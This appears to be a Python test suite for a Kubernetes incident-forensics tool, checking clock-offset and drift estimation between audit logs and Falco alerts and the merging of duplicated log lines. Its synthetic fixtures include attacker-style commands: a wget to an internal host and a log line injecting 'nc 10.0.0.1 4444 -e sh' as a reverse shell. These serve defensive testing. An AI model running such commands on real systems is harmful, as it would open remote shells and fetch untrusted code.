"""Clocks and copies: sources whose clocks are wrong by known amounts, and records that
stand in more than one file. The packages are made here, so the truth is known."""
import json
import os
import random
import re
import shutil
import sqlite3
import subprocess
import tempfile
import unittest
from datetime import datetime, timedelta, timezone
from pathlib import Path

EXHIBIT = os.environ["EXHIBIT"]
START = 1795427100 * 10**9
SECOND = 10**9
POD, UID, CONTAINER = "api-0", "0b5a5a52-7f0c-4f0e-9d6e-3a5c2f1b9a01", "ab" * 32

MANIFEST = f"""apiVersion: v1
kind: Pod
metadata:
  name: {POD}
  namespace: shop
  uid: {UID}
spec:
  nodeName: worker-1
  serviceAccountName: api
  containers:
  - name: api
    image: shop/api:1
"""


def stated(nanoseconds, digits=9):
    whole, fraction = divmod(nanoseconds, SECOND)
    text = datetime.fromtimestamp(whole, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
    return text + ("." + f"{fraction:09d}"[:digits] if digits else "") + "Z"


def command(i):
    """Commands repeat, so that wrong pairs are there as well."""
    return ["id", "cat /etc/hosts", f"ls /srv/{i}", f"wget http://10.0.0.9/{i}"][i % 4]


def audit(i, time, stage="ResponseStarted", **more):
    words = "".join("&command=" + word.replace("/", "%2F").replace(":", "%3A")
                    for word in command(i).split())
    record = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
              "auditID": f"00000000-0000-4000-8000-{i:012d}", "stage": stage,
              "requestURI": f"/api/v1/namespaces/shop/pods/{POD}/exec?container=api{words}",
              "verb": "create", "user": {"username": "mallory", "groups": []},
              "sourceIPs": ["10.0.0.7"], "userAgent": "kubectl/v1.30.0",
              "objectRef": {"resource": "pods", "namespace": "shop", "name": POD,
                            "apiVersion": "v1", "subresource": "exec"},
              "requestReceivedTimestamp": stated(time, 6), "stageTimestamp": stated(time, 6)}
    if stage != "RequestReceived":
        record["responseStatus"] = {"code": 101}
    return json.dumps({**record, **more})


def falco(i, time):
    line = command(i)
    return json.dumps({
        "time": stated(time), "rule": "Terminal shell in container", "priority": "Notice",
        "source": "syscall", "hostname": "worker-1", "tags": ["container"],
        "output": f"A shell was spawned ({line})",
        "output_fields": {"container.id": CONTAINER[:12], "k8s.ns.name": "shop",
                          "k8s.pod.name": POD, "proc.name": line.split()[0],
                          "proc.cmdline": line, "user.name": "root"}})


class Made(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.addCleanup(self.folder.cleanup)
        self.package = Path(self.folder.name) / "case"
        self.out = Path(self.folder.name) / "out"
        self.package.mkdir()
        (self.package / "pod.yaml").write_text(MANIFEST)

    def write(self, name, lines):
        (self.package / name).parent.mkdir(parents=True, exist_ok=True)
        (self.package / name).write_text("".join(line + "\n" for line in lines))

    def analyze(self):
        done = subprocess.run([EXHIBIT, "analyze", self.package, "-o", self.out, "--quiet"],
                              capture_output=True, timeout=120)
        self.assertIn(done.returncode, (0, 1), done.stderr)
        self.clocks = json.loads((self.out / "clocks.json").read_text())
        self.events = [json.loads(line)
                       for line in (self.out / "timeline.jsonl").read_text().splitlines()]

    def source(self, name):
        return next(s for s in self.clocks["sources"] if s["source"] == name)


class DelayTest(Made):
    def test_a_steady_delay_is_no_offset(self):
        """The sensor always takes 80 ms: nothing scatters, and the clocks are the same."""
        times = [START + i * 60 * SECOND for i in range(40)]
        self.write("audit.log", [audit(i, t) for i, t in enumerate(times)])
        self.write("falco.jsonl", [falco(i, t + 80_000_000) for i, t in enumerate(times)])
        self.analyze()
        compared = [c for c in self.clocks["comparisons"] if c.get("pairs", 0) >= 3]
        self.assertTrue(compared)
        for c in compared:
            self.assertLessEqual(abs(float(c["offset_seconds"])),
                                 float(c["uncertainty_seconds"]))
            self.assertFalse(c["differs"])


class ShiftedTest(Made):
    def make(self, offset, drift=0.0, acts=60, every=60 * SECOND):
        """Falco's clock is ahead by `offset`, and runs faster by `drift`."""
        chance = random.Random(7)
        requests, alerts = [], []
        for i in range(acts):
            time = START + i * every
            seen = time + chance.randrange(5_000_000, 60_000_000)
            requests.append(audit(i, time))
            alerts.append(falco(i, round(seen + offset + drift * (seen - START))))
        self.write("audit.log", requests)
        self.write("falco.jsonl", alerts)
        self.analyze()

    def assert_ahead(self, want):
        found = self.source("falco.jsonl")
        self.assertTrue(found["applied_to_order"], found)
        self.assertEqual(found["reference"], "audit.log")
        ahead, within = float(found["ahead_seconds"]), float(found["uncertainty_seconds"])
        self.assertLess(abs(ahead - want), within + 0.06, found)
        self.assertLess(within, 0.2)

    def assert_ordered(self):
        """Every alert stands right behind its request, whatever its clock says."""
        kinds = [e["kind"] for e in self.events
                 if e["kind"] in ("api-request", "runtime-alert")]
        self.assertEqual(kinds, ["api-request", "runtime-alert"] * (len(kinds) // 2))

    def test_an_offset_is_found_and_used_for_the_order_alone(self):
        for offset in (-37.25, 90, 7200):
            with self.subTest(offset):
                self.make(round(offset * SECOND))
                self.assert_ahead(offset)
                # Latency is not known, so the last hundredths are not: pairs may touch.
                self.assert_ordered_nearly()
                alert = next(e for e in self.events if e["kind"] == "runtime-alert")
                told = json.loads((self.package / "falco.jsonl").read_text()
                                  .splitlines()[0])["time"]
                self.assertEqual(alert["datetime"], told)
                self.assertNotEqual(alert["placed_at"], told)

    def assert_ordered_nearly(self):
        commands = [e["fields"].get("command") for e in self.events
                    if e["kind"] in ("api-request", "runtime-alert")]
        for i in range(0, len(commands), 2):
            self.assertEqual(commands[i], commands[i + 1])

    def test_a_drift_is_found(self):
        self.make(5 * SECOND, drift=0.0005, acts=120)
        [found] = self.clocks["comparisons"]
        sign = 1 if found["second"] == "falco.jsonl" else -1
        self.assertLess(abs(sign * float(found["drift_ppm"]) - 500),
                        float(found["drift_uncertainty_ppm"]) + 5)
        self.assert_ordered_nearly()

    def test_clocks_that_agree_move_nothing(self):
        self.make(0)
        found = self.source("falco.jsonl")
        self.assertFalse(found["applied_to_order"])
        self.assertEqual(found["clock"], "agrees with the reference")
        self.assertFalse([e for e in self.events if "placed_at" in e])

    def test_two_acts_are_too_few(self):
        self.make(40 * SECOND, acts=2)
        self.assertFalse(self.source("falco.jsonl")["applied_to_order"])
        self.assertTrue(self.source("falco.jsonl")["clock"].startswith(
            "clock not compared: too few acts"))
        self.assertIn("too few", self.clocks["comparisons"][0]["why"])

    def test_every_example_cites_both_records(self):
        self.make(40 * SECOND)
        [found] = self.clocks["comparisons"]
        for example in found["examples"]:
            texts = []
            for span in example["spans"]:
                place = f"{span['item']}@{span['offset']}+{span['length']}"
                shown = subprocess.run([EXHIBIT, "show", "--raw", self.package, place],
                                       capture_output=True, check=True).stdout
                texts.append(json.loads(shown))
            self.assertEqual({"rule" in t for t in texts}, {True, False})

    def test_the_reference_is_told_in_the_report(self):
        self.make(90 * SECOND)
        page = (self.out / "report.html").read_text()
        self.assertIn("Clocks", page)
        self.assertIn("falco.jsonl", page)


class BoundsTest(Made):
    """Sources that share no act: the real case, with the audit log's clock moved."""
    PACKAGE = Path(__file__).resolve().parents[2] / "corpus/packages/inventory"

    def move(self, seconds):
        shutil.rmtree(self.package)
        shutil.copytree(self.PACKAGE, self.package)
        for seal in self.package.glob("manifest.sha256*"):
            seal.unlink()

        def moved(found):
            time = datetime.strptime(found[2], "%Y-%m-%dT%H:%M:%S") + timedelta(seconds=seconds)
            return found[1] + time.strftime("%Y-%m-%dT%H:%M:%S")
        log = (self.package / "audit.log").read_text()
        (self.package / "audit.log").write_text(re.sub(
            r'("(?:requestReceived|stage)Timestamp":")(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)', moved, log))
        self.analyze()
        self.questions = [q["question"] for q in json.loads(
            (self.out / "story.json").read_text())["open_questions"]]

    def test_what_must_come_first_finds_the_offset(self):
        for seconds in (90, -90):
            with self.subTest(seconds):
                self.move(seconds)
                for source in ("falco.jsonl", "api-0.log", "pod-logs-IR.txt", "events.json"):
                    found = self.source(source)
                    self.assertTrue(found["applied_to_order"], found)
                    self.assertEqual(found["reference"], "audit.log")
                    off = abs(float(found["ahead_seconds"]) + seconds)
                    self.assertLess(off, float(found["uncertainty_seconds"]) + 0.1)
                asked = [q for q in self.questions if "What came first" in q]
                # Of the events; the node's starts of containers show in answers of the API,
                # too, so that acts of both sides compare these two.
                self.assertEqual(len(asked), 1, self.questions)
                self.assertIn("events.json", asked[0])
                for question in asked:
                    self.assertIn("audit.log", question)

    def test_clocks_that_agree_are_said_to(self):
        self.move(0)
        for source in ("falco.jsonl", "api-0.log"):
            self.assertEqual(self.source(source)["clock"], "agrees with the reference")
        self.assertFalse([q for q in self.questions if "What came first" in q])

    def test_what_cannot_be_compared_is_said(self):
        self.write("audit.log", [audit(i, START + i * SECOND) for i in range(4)])
        self.write(f"pods/shop_{POD}_{UID}/api/0.log",
                   [f"{stated(START + i * SECOND)} stdout F tick {i}" for i in range(4)])
        self.analyze()
        log = f"pods/shop_{POD}_{UID}/api/0.log"
        asked = [q["question"] for q in json.loads((self.out / "story.json").read_text())
                 ["open_questions"] if "clocks agree" in q["question"]]
        self.assertEqual(len(asked), 1)
        self.assertIn(log, asked[0])
        coverage = json.loads((self.out / "coverage.json").read_text())
        self.assertIn(asked[0], [q["question"] for q in coverage["cannot_answer"]])


class ServersTest(Made):
    """Logs of a proxy and of the server behind it, whose collector's clock is ahead: requests have
    an id, as proxies hand it on."""
    HANDED_ON = 20

    def serve(self, ahead, name_id, scan=False):
        chance = random.Random(11)
        first, second = [], []
        for i in range(self.HANDED_ON):
            time = START + i * 47 * SECOND + chance.randrange(SECOND)
            path = f"/item/{i}"
            one = f"{chance.getrandbits(128):032x}"
            other = one if not scan else f"{chance.getrandbits(128):032x}"
            first.append(f'{stated(time)} stdout F 203.0.113.9 - "GET {path}" 200 [web] '
                         f"{name_id(one)}")
            second.append(f"{stated(time + 9_000_000 + ahead)} stdout F served {path} to "
                          f"203.0.113.9 id={name_id(other)}")
        self.write(f"pods/shop_{POD}_{UID}/proxy/0.log", first)
        self.write(f"pods/shop_{POD}_{UID}/api/0.log", second)
        self.analyze()
        return {s["source"].split("/")[-2]: s for s in self.clocks["sources"]
                if s["source"].endswith("0.log")}

    @staticmethod
    def dashed(one):
        return "-".join((one[:8], one[8:12], one[12:16], one[16:20], one[20:]))

    def test_an_id_that_both_have_is_one_request(self):
        for name_id in (str, self.dashed):
            found = self.serve(75 * SECOND, name_id)
            moved = [s for s in found.values() if "ahead_seconds" in s]
            self.assertEqual(len(moved), 1, found)
            self.assertTrue(moved[0]["applied_to_order"])
            self.assertAlmostEqual(abs(float(moved[0]["ahead_seconds"])), 75.009, delta=0.2)
            self.assertEqual({c["examples"][0]["by"] for c in self.clocks["comparisons"]},
                             {"the same request by its id"})

    def test_the_same_paths_from_one_address_are_no_identity(self):
        """Whoever scans two servers asks both for the same, one after the other."""
        found = self.serve(75 * SECOND, str, scan=True)
        self.assertEqual({s["applied_to_order"] for s in found.values()}, {False})
        told = {s["clock"].split(":")[0] for s in found.values() if not s["compared"]}
        self.assertEqual(told, {"clock not compared"})


class CopiesTest(Made):
    def copies(self):
        lines = [(START + i * SECOND + 123456789, f"request GET /item/{i}") for i in range(5)]
        self.write(f"pods/shop_{POD}_{UID}/api/0.log",
                   [f"{stated(t)} stdout F {text}" for t, text in lines])
        self.write("pod-logs.txt", [f"{stated(t)} {text}" for t, text in lines])
        self.write("shipped.log", [f"{stated(t, 3)} stdout F {text}" for t, text in lines])
        return lines

    def test_a_line_in_three_files_is_one_line_with_three_places(self):
        lines = self.copies()
        self.analyze()
        found = [e for e in self.events if e["kind"] == "log-line"]
        self.assertEqual([e["message"] for e in found], [text for _, text in lines])
        for event, (time, _) in zip(found, lines):
            # The finest statement speaks for all.
            self.assertEqual(event["datetime"], stated(time))
            self.assertEqual(len({event["item"], *(a["item"] for a in event["also"])}), 3)

    def test_the_case_file_has_all_places(self):
        self.copies()
        self.analyze()
        db = sqlite3.connect(self.out / "case.db")
        rows = db.execute("SELECT event, count(*) FROM event_place JOIN event"
                          " ON event.id = event WHERE kind = 'log-line' GROUP BY event")
        self.assertEqual([n for _, n in rows], [3] * 5)
        self.assertEqual(db.execute("PRAGMA foreign_key_check").fetchall(), [])

    def test_the_same_line_of_two_pods_is_two(self):
        for pod in (POD, "api-1"):
            self.write(f"pods/shop_{pod}_{UID}/api/0.log", [f"{stated(START)} stdout F tick"])
        self.analyze()
        self.assertTrue(all("also" not in e for e in self.events))

    def test_a_line_that_is_written_twice_in_one_file_at_two_times_stays_two(self):
        self.write("pod-logs.txt", [f"{stated(START)} tick", f"{stated(START + 1000)} tick"])
        self.analyze()
        self.assertEqual(len([e for e in self.events if e["kind"] == "log-line"]), 2)

    def test_stages_and_copies_of_a_request_are_one(self):
        stages = [audit(0, START, "RequestReceived"),
                  audit(0, START + 2_000_000, "ResponseComplete")]
        self.write("audit.log", stages)
        self.write("copy/audit.log", stages)
        self.analyze()
        [event] = [e for e in self.events if e["kind"] == "api-request"]
        self.assertEqual(len(event["also"]), 3)
        self.assertEqual(event["fields"]["code"], "101")

    def test_a_finding_that_rests_on_a_copy_is_linked_to_the_event(self):
        line = f"{stated(START)} GET /?x=;nc 10.0.0.1 4444 -e sh"
        self.write("a.txt", [line])
        self.write("b.txt", [line])
        self.analyze()
        db = sqlite3.connect(self.out / "case.db")
        rows = db.execute("SELECT s.item, s.offset FROM finding_span AS s JOIN item"
                          " ON item.id = s.item WHERE item.path IN ('a.txt', 'b.txt')"
                          " AND NOT EXISTS (SELECT 1 FROM event_finding AS l"
                          " WHERE l.finding = s.finding)").fetchall()
        self.assertEqual(rows, [])


if __name__ == "__main__":
    unittest.main()
